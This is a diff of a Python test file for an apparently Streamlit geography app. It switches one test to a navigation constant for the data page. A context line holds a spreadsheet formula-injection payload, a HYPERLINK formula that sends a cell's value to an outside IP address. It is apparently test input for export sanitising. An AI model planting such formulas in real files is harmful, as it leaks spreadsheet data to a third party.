@@ -19,6 +19,7 @@ from formats.spreadsheets import to_csv_text, to_xlsx
 from geo.coverage import Scope, analyse_layer
 from geo.units import load_communes, load_successors
 from tests.conftest import shared_file
+from ui import navigation
 
 FORMULA = '=HYPERLINK("http://198.51.100.7/?"&B3,"Voir")'
 
@@ -336,7 +337,7 @@ def test_donnees_page_says_when_the_workspace_cannot_be_written(workspace, monke
 
     monkeypatch.setattr(store.workspace, "save_iris_contours", refuse)
     at = AppTest.from_file("../app.py", default_timeout=180)
-    at.switch_page("pages/4_Données.py").run()
+    at.switch_page(navigation.DATA.script).run()
     uploader = next(u for u in at.get("file_uploader") if u.key == "iris_upload")
     uploader.upload("iris.geojson", shared_file("iris_contours_2020_dep66_81_12_87.geojson").read_bytes(),
                     "application/json")
